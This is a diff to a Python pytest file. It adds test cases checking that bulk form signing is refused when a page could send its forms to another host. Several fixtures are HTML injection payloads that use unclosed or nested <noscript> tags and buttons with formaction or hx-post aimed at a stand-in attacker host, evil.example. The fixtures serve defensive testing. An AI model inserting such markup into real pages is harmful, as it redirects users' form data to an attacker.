@@ -866,6 +866,13 @@ def test_forms_signed_in_bulk_in_many_pieces_are_checked_in_one_pass(
     # (a <noscript> left open at the end: read for what a browser without scripts sees)
     pytest.param(LIST_OF_FORMS + '<noscript><button formaction=/x hx-post="https://evil.example/"'
                  ' hx-include="form">', id="htmx-in-a-noscript-left-open"),
+    # (each thing of the page that puts every form with an action in doubt: _page_in_doubt)
+    pytest.param("<noscript><noscript></noscript></noscript>" + LIST_OF_FORMS,
+                 id="a-noscript-in-a-noscript-before-them"),
+    pytest.param(LIST_OF_FORMS + "<noscript><noscript></noscript></noscript>",
+                 id="a-noscript-in-a-noscript-after-them"),
+    pytest.param(LIST_OF_FORMS + '<div><button formaction="https://evil.example/">',
+                 id="a-submit-button-after-their-ends"),
 ])
 def test_bare_forms_are_not_signed_in_bulk_when_the_page_could_send_them_elsewhere(
         document: str) -> None:
